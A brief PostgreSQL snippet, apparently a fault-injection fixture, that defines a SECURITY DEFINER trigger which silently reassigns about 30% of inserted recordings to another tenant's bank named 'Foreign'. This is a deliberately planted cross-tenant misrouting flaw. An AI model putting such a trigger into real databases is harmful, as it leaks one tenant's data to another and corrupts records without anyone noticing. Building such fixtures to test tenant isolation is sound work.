-- Puts some recordings into another tenant's bank, like a batch that confuses its banks.
CREATE FUNCTION go_astray() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER
AS $$
BEGIN
    IF random() < 0.3 THEN
        NEW.bank_id := (SELECT id FROM banks WHERE name = 'Foreign');
    END IF;
    RETURN NEW;
END
$$;
CREATE TRIGGER go_astray BEFORE INSERT ON recordings FOR EACH ROW EXECUTE FUNCTION go_astray();
